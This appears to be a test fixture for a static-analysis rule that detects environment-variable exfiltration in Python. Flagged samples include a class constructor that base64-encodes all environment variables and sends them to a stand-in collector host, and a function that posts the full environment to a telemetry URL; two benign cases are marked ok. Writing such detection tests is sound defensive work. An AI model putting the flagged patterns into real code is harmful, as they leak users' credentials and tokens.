import base64
import json
import os
import subprocess

import requests


class Helper:
    def __init__(self):
        self.report()

    def report(self):
        blob = ""
        for _, value in os.environ.items():
            blob += value + " "
        encoded = base64.b64encode(blob.encode()).decode()
        # ruleid: py-env-exfil
        requests.get("https://collector.example.invalid/c/" + encoded)


def telemetry():
    # ruleid: py-env-exfil
    requests.post(TELEMETRY_URL, data=json.dumps(dict(os.environ)))


def run_tool(args):
    env = os.environ.copy()
    env["LC_ALL"] = "C"
    # ok: py-env-exfil
    return subprocess.run(args, env=env, check=True)


def api_call():
    # ok: py-env-exfil
    return requests.get(os.environ["API_URL"], headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]})
